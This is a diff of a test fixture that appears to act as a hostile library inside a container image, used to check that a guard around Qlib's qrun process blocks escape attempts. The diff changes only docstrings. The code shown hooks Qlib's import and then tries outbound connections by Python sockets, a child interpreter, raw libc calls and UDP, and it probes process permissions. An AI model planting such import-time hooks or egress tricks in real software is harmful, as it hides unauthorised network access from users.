@@ -1,7 +1,7 @@
-"""Goes into a hostile image's site-packages: what breaks the promise of a run, in the very process of qrun.
+"""The hostile library of an image: it breaks the promise of a run inside the process of qrun.
 
-It acts when Qlib is imported, as a library that misbehaves would. The run's name chooses what is done.
-Everything is caught, so that only somebody else can end the run for it.
+It acts when Qlib is imported. The run's name chooses the attack. It catches every exception, so that only the
+guard can end the run.
 """
 
 # ruff: noqa: T201, BLE001 - what it prints is read by the test, and it catches whatever there is
@@ -29,13 +29,13 @@ def through_python() -> None:
 
 
 def through_a_child() -> None:
-    """Let another Python do it, one that takes nothing from its environment."""
+    """Connect in a child process that inherits no Python settings."""
     code = f"import socket; socket.create_connection(({HOST!r}, {PORT}), 10)"
     subprocess.run([sys.executable, "-I", "-c", code], check=True)
 
 
 def through_the_c_library() -> None:
-    """Ask the kernel, without a word to Python."""
+    """Connect by the C library, without Python's socket module."""
     libc = ctypes.CDLL(None, use_errno=True)
     address = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(int(PORT)), socket.inet_aton(HOST))
     if libc.connect(libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0), address, len(address)) != 0:
@@ -43,12 +43,12 @@ def through_the_c_library() -> None:
 
 
 def over_udp() -> None:
-    """Send where nobody answers."""
+    """Send a datagram."""
     socket.socket(type=socket.SOCK_DGRAM).sendto(b"BUY 100", (HOST, int(PORT)))
 
 
 def probe_container() -> None:
-    """Tell what this process may do, and end."""
+    """Print what this process may do, and end."""
     dataset = next(Path("/data/qlib/qlib_data").glob("us_data_1d@*/instruments/all.txt"))
     status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
     seen = {
@@ -83,18 +83,18 @@ LINKS_FOLDER: dict[str, Callable[[], None]] = {
 
 
 class OnImport:
-    """Sees what is imported, and acts once."""
+    """Acts once, when Qlib is imported."""
 
     @classmethod
     def find_spec(cls, name: str, *_: object) -> None:
-        """Find nothing, ever."""
+        """Return nothing for every module."""
         if name == "qlib":
             sys.meta_path.remove(cls)
             act()
 
 
 def act() -> None:
-    """Do what the run is named after."""
+    """Carry out the attack in the run's name."""
     way = LINKS_FOLDER[sys.orig_argv[-2].partition('"')[2].partition("-")[0]]
     try:
         way()
